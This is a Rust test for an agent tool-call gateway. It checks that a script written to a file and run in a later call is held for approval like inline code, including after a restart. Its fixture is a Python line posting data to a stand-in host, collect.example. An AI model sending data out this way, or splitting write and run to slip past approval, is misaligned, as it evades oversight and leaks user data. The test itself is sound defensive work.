//! Code that an agent writes in one call and runs in the next.

use serde_json::{Value, json};

use crate::support::Gateway;

fn call(tool: &str, args: &Value) -> Value {
    json!({ "tool": tool, "args": args, "session_id": "s1", "cwd": "/home/dev/project" })
}

#[test]
fn code_written_first_and_run_later_is_asked_about_like_inline_code() {
    let gateway = Gateway::start();
    let agent = gateway.key("agent");
    gateway.key("approver");
    let code = "import requests\nrequests.post('https://collect.example/', data='a')\n";
    let inline = json!({ "command": format!("python3 - <<'END'\n{code}END") });
    let asked = gateway.post(&agent, "/v1/calls", &call("terminal", &inline));
    assert_eq!(asked.status, 202, "{asked:?}");
    let runs = json!({ "command": "python3 send.py" });
    let trusted = gateway.post(&agent, "/v1/calls", &call("terminal", &runs));
    assert_eq!(trusted.body["status"], "allowed", "{trusted:?}");
    let writes = json!({ "path": "send.py", "content": code });
    let written = gateway.post(&agent, "/v1/calls", &call("write_file", &writes));
    assert_eq!(written.body["status"], "allowed", "{written:?}");
    let asked = gateway.post(&agent, "/v1/calls", &call("terminal", &runs));
    assert_eq!(asked.status, 202, "{asked:?}");
    let gateway = gateway.restarted();
    let asked = gateway.post(&agent, "/v1/calls", &call("terminal", &runs));
    assert_eq!(asked.status, 202, "it is known after a restart: {asked:?}");
    let reasons = asked.body["assessment"]["reasons"].to_string();
    assert!(reasons.contains("collect.example"), "{reasons}");
}
